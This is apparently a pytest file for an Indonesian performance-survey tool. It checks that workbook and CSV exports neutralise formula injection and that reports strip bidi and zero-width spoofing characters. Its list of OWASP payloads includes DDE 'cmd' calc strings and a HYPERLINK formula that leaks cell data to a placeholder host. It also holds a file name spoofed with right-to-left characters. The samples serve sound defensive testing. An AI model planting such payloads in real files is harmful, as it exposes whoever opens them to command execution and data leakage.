"""Exports are formula-neutral and display text is clean.

Formula (CSV) injection payloads from the OWASP list ("CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection: cells beginning with ``=``, ``+``, ``-``,
``@``, tab or carriage return, including the DDE ``cmd|' /C calc'!A0`` and ``HYPERLINK``
examples) go through a real roster import and real rater comments into every spreadsheet
export: the analysis and fairness workbooks (normal and meeting mode), the CSV tables, the
personal-links CSV of the CLI and the admin app's CSV download.  In a workbook every such cell
must be a *text* cell (never a formula) holding the payload unchanged, with Excel's quote
prefix; in a CSV every such field must start with an apostrophe.
"""

from __future__ import annotations

import base64
import csv
import io
import re

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from kinerja_survey import cycle as uc
from kinerja_survey.cli import main
from kinerja_survey.collect.nip import pseudonymise
from kinerja_survey.demo import generate_organisation
from kinerja_survey.present import exports, reports
from kinerja_survey.present.labels import display_text, slugify
from kinerja_survey.store import Store

#: OWASP CSV Injection examples (https://owasp.org/www-community/attacks/CSV_Injection).
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://contoh.invalid/?leak=\"&A1,\"Klik\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
]
FORMULA_START = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


def test_neutralise_every_owasp_payload():
    for p in OWASP_PAYLOADS:
        assert exports.is_formula_like(p), p
        assert exports.neutralise(p) == "'" + p
    assert exports.neutralise("Budi Santoso") == "Budi Santoso" and exports.neutralise(-1.5) == -1.5
    text = exports.write_csv(pd.DataFrame({"nama": OWASP_PAYLOADS, "skor": np.arange(len(OWASP_PAYLOADS)) - 3.5}),
                             index=False)
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + p for p in OWASP_PAYLOADS]
    assert rows[0][1] == "-3.5"  # numbers stay numbers


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A real cycle whose roster names, jabatan, unit and comments are formula payloads."""
    tmp = tmp_path_factory.mktemp("hostile")
    roster = generate_organisation(30, seed=5, name="=HYPERLINK(\"http://contoh.invalid\")")
    k = len(OWASP_PAYLOADS)
    roster.loc[: k - 1, "nama"] = [f"{p} {i}" for i, p in enumerate(OWASP_PAYLOADS)]
    roster.loc[k: 2 * k - 1, "jabatan"] = OWASP_PAYLOADS
    store = Store(tmp / "hostile.sqlite")
    uc.import_roster(store, roster, actor="uji")
    cid = uc.create_cycle(store, "Periode =1+2", "2026-01-01", "2026-12-31", actor="uji")
    made = uc.assign(store, cid, seed=5, actor="uji")
    uc.open_cycle(store, cid, actor="uji")
    token_of = dict(zip(made.links["nip"], made.links["token"]))
    items = [i.code for i in store.instrument(cid).items]
    comps = [c.code for c in store.instrument(cid).competencies]
    rng = np.random.default_rng(5)
    for j, row in enumerate(store.assignments_frame(cid).itertuples(index=False)):
        answers = {i: int(rng.integers(2, 6)) for i in items}
        note = {comps[j % len(comps)]: OWASP_PAYLOADS[j % k]}
        store.save_response(token_of[row.rater], row.assignment_id, answers, note,
                            overall_comment=OWASP_PAYLOADS[(j + 1) % k], submit=True)
    store.set_hasil_kerja(cid, pd.DataFrame({"nip": roster["nip"], "rating": "Sesuai Ekspektasi"}), source="uji", actor="penguji")
    uc.close_cycle(store, cid, actor="uji")
    yield store, cid, tmp, made.links
    store.dispose()


def _check_workbook(path) -> int:
    wb = openpyxl.load_workbook(path)
    hits = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and FORMULA_START.match(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    hits += 1
    return hits


def _number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def _check_csv(path) -> int:
    """Every field that a spreadsheet would read as a formula is a plain number or starts with "'"."""
    hits = 0
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.reader(fh):
            for field in row:
                assert _number(field) or not FORMULA_START.match(field), (path.name, field)
                hits += field.startswith("'") and FORMULA_START.match(field[1:]) is not None
    return hits


def test_payloads_through_roster_and_comments_into_every_export(hostile):
    store, cid, tmp, links = hostile
    db = str(tmp / "hostile.sqlite")
    run = CliRunner()
    out = run.invoke(main, ["--db", db, "analisis", str(cid), "--keluaran", str(tmp / "xlsx"), "--format", "xlsx"])
    assert out.exit_code == 0, out.output
    assert _check_workbook(tmp / "xlsx" / f"analisis-periode-{cid}.xlsx") >= 2 * len(OWASP_PAYLOADS)
    # the payload text is kept as typed, only made inert
    wb = openpyxl.load_workbook(tmp / "xlsx" / f"analisis-periode-{cid}.xlsx")
    names = {c.value for row in wb["skor"].iter_rows() for c in row}
    assert OWASP_PAYLOADS[0] + " 0" in names
    for meeting in ([], ["--rapat"]):
        out = run.invoke(main, ["--db", db, "keadilan", str(cid), "--keluaran", str(tmp / f"f{len(meeting)}.xlsx"),
                                *meeting])
        assert out.exit_code == 0, out.output
        _check_workbook(tmp / f"f{len(meeting)}.xlsx")
        out = run.invoke(main, ["--db", db, "analisis", str(cid), "--keluaran", str(tmp / f"csv{len(meeting)}"), *meeting])
        assert out.exit_code == 0, out.output
        hits = sum(_check_csv(p) for p in (tmp / f"csv{len(meeting)}").glob("*.csv"))
        assert hits >= (1 if meeting else 2 * len(OWASP_PAYLOADS))  # the cycle name (keterangan) at least
    # personal links CSV of the CLI (names are payloads)
    nips = store.employees_frame()["nip"].head(4).tolist()
    uc.reopen_cycle(store, cid, reason="uji tautan baru", actor="uji")  # links are reissued on an open cycle only
    out = run.invoke(main, ["--db", db, "--petugas", "uji", "ekspor-tautan", str(cid), *nips, "--keluaran",
                            str(tmp / "links.csv"), "--ya"])
    uc.close_cycle(store, cid, actor="uji")
    assert out.exit_code == 0, out.output
    assert _check_csv(tmp / "links.csv") == 8  # four names and four unit paths (the root is a payload)
    # the admin app's CSV download
    from kinerja_survey.apps.admin import csv_download_html

    page = csv_download_html(store.employees_frame(), "pegawai.csv", "Unduh")
    data = base64.b64decode(re.search(r"base64,([A-Za-z0-9+/=]+)", page).group(1))
    (tmp / "admin.csv").write_bytes(data)
    assert _check_csv(tmp / "admin.csv") >= 2 * len(OWASP_PAYLOADS) - 2


def test_workbook_has_indonesian_headers_and_a_data_dictionary(hostile):
    store, cid, tmp, _ = hostile
    path = uc.export_workbook(uc.load_results(store, cid), tmp / "kamus.xlsx", fairness=False)
    wb = openpyxl.load_workbook(path, read_only=True)
    skor = next(wb["skor"].iter_rows(values_only=True))
    kamus = [r for r in wb["kamus_data"].iter_rows(values_only=True)]
    wb.close()
    assert {"skor gabungan", "rata-rata rekan kerja", "predikat kinerja", "unit kerja"} <= set(skor)
    assert not {"combined", "mean_peer", "unit_kerja"} & set(skor)
    assert kamus[0] == ("lembar", "kolom", "nama_asli", "arti")
    entries = {(r[0], r[1]): r for r in kamus[1:]}
    assert all(("skor", h) in entries for h in skor)  # every column explained
    assert entries[("skor", "skor gabungan")][2] == "combined" and "berbobot" in entries[("skor", "skor gabungan")][3]


# --- displayed text and file names ----------------------------------------------------------------

def test_bidi_and_zero_width_characters_are_removed_from_reports(hostile, tmp_path):
    store, cid, _, _ = hostile
    results = uc.load_results(store, cid)
    ratee = str(results.ratees[0])
    spoof = "Budi\u202egnp.exe\u200b\u2066 Santoso\ufeff"
    results.employees.loc[ratee, "nama"] = spoof
    results.comments.loc[results.comments.index[0], "text"] = "Bagus\u200d\u202e sekali"
    rep = reports.feedback_report(results, ratee)
    page = reports.render_html(rep)
    assert rep.name == "Budignp.exe Santoso"
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]", page)
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    path = reports.write_reports(results, tmp_path, [ratee], format="html")["html"].iloc[0]
    name = path.rsplit("/", 1)[-1]
    assert name == f"umpan-balik-budignp-exe-santoso-{ratee}.html"
    assert display_text("a\u202eb\u200bc") == "abc"
    assert slugify("../../Dra. Siti") == "dra-siti" and slugify("\u202e") == ""


def test_report_states_the_weights_and_the_pdf_header_does_not_overlap(hostile):
    from pypdf import PdfReader

    store, cid, _, _ = hostile
    results = uc.load_results(store, cid)
    ratee = next(r for r in results.ratees if results.scores.loc[r, "n_supervisor"] > 0)
    rep = reports.feedback_report(results, str(ratee))
    assert "Atasan 50%, Rekan kerja 30%, Bawahan 20%" in rep.weights_note
    assert rep.weights_note in reports.render_html(rep)
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(reports.render_pdf(rep))).pages)
    flat = " ".join(text.split())
    assert "Atasan 50%, Rekan kerja 30%, Bawahan 20%" in flat
    assert "Penilai lain" in flat.replace("Penilai\nlain", "Penilai lain") or "Penilai" in flat
    assert "lainSkor" not in text  # the header cells wrap instead of running into each other


def test_pseudonyms_are_long_enough_for_a_national_roster():
    code = pseudonymise("198503152010012003", "k")
    assert re.fullmatch(r"P-[A-Z2-7]{16}", code)  # 16 base32 characters = 80 bits
    # 60,000 NIP-like keys: no collision (at the old 32 bits the chance was 34%; at 80 bits it is 1.5e-15)
    codes = {pseudonymise(f"{n:018d}", "k") for n in range(60_000)}
    assert len(codes) == 60_000
    with pytest.raises(ValueError):
        pseudonymise("1", "k", length=8)
